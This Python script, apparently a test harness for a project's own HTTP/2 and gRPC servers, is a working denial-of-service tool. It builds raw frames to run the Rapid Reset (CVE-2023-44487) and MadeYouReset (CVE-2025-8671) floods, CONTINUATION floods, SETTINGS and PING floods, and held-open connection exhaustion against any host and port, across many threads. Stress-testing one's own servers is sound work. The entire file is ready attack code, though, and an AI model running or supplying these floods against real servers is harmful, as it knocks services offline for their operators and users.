"""An attack on an HTTP/2 port with raw frames: `python attacker.py ATTACK HOST:PORT PATH SECONDS CONNECTIONS`.

It imports nothing but the standard library, so that no mistake of this project's client hides one of its servers. The
frames are those of RFC 9113. It prints a JSON object: `sent` frames or connections, and connections that were `ended`
by the server or `refused`.
"""

import contextlib
import json
import select
import socket
import struct
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator

DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM = ACK = 1
END_HEADERS = 4
CANCEL = 8
AT_ONCE = 256  # frames, or pairs of them, handed to the kernel together
LAST_STREAM = (1 << 31) - 1
TURN_S = 0.2


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


OPENING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS)


def text(value: str) -> bytes:
    return bytes([len(value)]) + value.encode()


def headers(path: str) -> bytes:
    """A request of gRPC, each field literal or from the static table of HPACK (RFC 7541)."""
    fields = b"\x83\x86" + b"\x04" + text(path) + b"\x01" + text("localhost")
    return fields + b"\x00" + text("content-type") + text("application/grpc") + b"\x00" + text("te") + text("trailers")


def reset(path: str) -> Iterator[bytes]:
    """CVE-2023-44487: a request, and its end at once."""
    for stream in range(1, LAST_STREAM, 2):
        opened = frame(HEADERS, END_HEADERS, stream, headers(path))
        yield opened + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))


def made_you_reset(path: str) -> Iterator[bytes]:
    """CVE-2025-8671: a request, and an increment of 0, for which the server itself must end the stream."""
    for stream in range(1, LAST_STREAM, 2):
        opened = frame(HEADERS, END_HEADERS, stream, headers(path))
        yield opened + frame(WINDOW_UPDATE, 0, stream, bytes(4))


def continuation(path: str) -> Iterator[bytes]:
    """Header fields without end, in many frames."""
    yield frame(HEADERS, 0, 1, headers(path))
    more = b"\x00" + text("x") + text("y" * 100)
    while True:
        yield frame(CONTINUATION, 0, 1, more)


def empty_continuation(path: str) -> Iterator[bytes]:
    """The same without any field, which no limit of sizes ends."""
    yield frame(HEADERS, 0, 1, headers(path))
    while True:
        yield frame(CONTINUATION, 0, 1)


def settings(path: str) -> Iterator[bytes]:
    """Each wants an acknowledgement."""
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535))


def ping(path: str) -> Iterator[bytes]:
    while True:
        yield frame(PING, 0, 0, bytes(8))


FLOODS: dict[str, Callable[[str], Iterator[bytes]]] = {
    "rapid-reset": reset,
    "made-you-reset": made_you_reset,
    "continuation": continuation,
    "empty-continuation": empty_continuation,
    "settings": settings,
    "ping": ping,
}
HELD = {"silent": b"", "idle": OPENING}  # what each connection sends before it waits
ATTACKS = (*FLOODS, *HELD)


def flood(make: Callable[[str], Iterator[bytes]], host: tuple[str, int], path: str, until: float) -> Counter[str]:
    """Send frames as fast as they are taken, and connect again where the server ends it."""
    counts = Counter[str]()
    while time.monotonic() < until:
        frames = make(path)
        try:
            with socket.create_connection(host, timeout=1.0) as connection:
                connection.sendall(OPENING)
                while time.monotonic() < until:
                    connection.sendall(b"".join(next(frames) for _ in range(AT_ONCE)))
                    counts["sent"] += AT_ONCE
                    # what comes back is read: a peer that does not read is another attack
                    while select.select([connection], [], [], 0)[0]:
                        if not connection.recv(1 << 16):
                            raise ConnectionError
        except TimeoutError:
            counts["stalled"] += 1
        except OSError:
            counts["ended"] += 1
    return counts


def hold(opening: bytes, host: tuple[str, int], count: int, until: float) -> Counter[str]:
    """Keep many connections open, answer pings, and open another for each that ends."""
    counts, open_now = Counter[str](), dict[int, socket.socket]()
    poll = select.poll()
    while time.monotonic() < until:
        while len(open_now) < count and time.monotonic() < until:
            try:
                connection = socket.create_connection(host, timeout=1.0)
                connection.sendall(opening)
            except OSError:
                counts["refused"] += 1
                break
            counts["sent"] += 1
            open_now[connection.fileno()] = connection
            poll.register(connection, select.POLLIN)
        for number, _ in poll.poll(1000 * TURN_S):
            with contextlib.suppress(OSError):
                if data := open_now[number].recv(1 << 16):
                    if data[3:4] == bytes([PING]) and len(data) >= 17:
                        open_now[number].sendall(frame(PING, ACK, 0, data[9:17]))
                    continue
            counts["ended"] += 1
            poll.unregister(number)
            open_now.pop(number).close()
        counts["most"] = max(counts["most"], len(open_now))
        time.sleep(TURN_S / 10)
    return counts


def main(attack: str, address: str, path: str, seconds: str, connections: str) -> None:
    name, _, port = address.rpartition(":")
    host, until = (name, int(port)), time.monotonic() + float(seconds)
    if attack in HELD:
        counts = hold(HELD[attack], host, int(connections), until)
    else:
        each: list[Counter[str]] = []
        job = lambda: each.append(flood(FLOODS[attack], host, path, until))  # noqa: E731
        threads = [threading.Thread(target=job) for _ in range(int(connections))]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        counts = sum(each, Counter())
    print(json.dumps(counts))


if __name__ == "__main__":
    main(*sys.argv[1:])
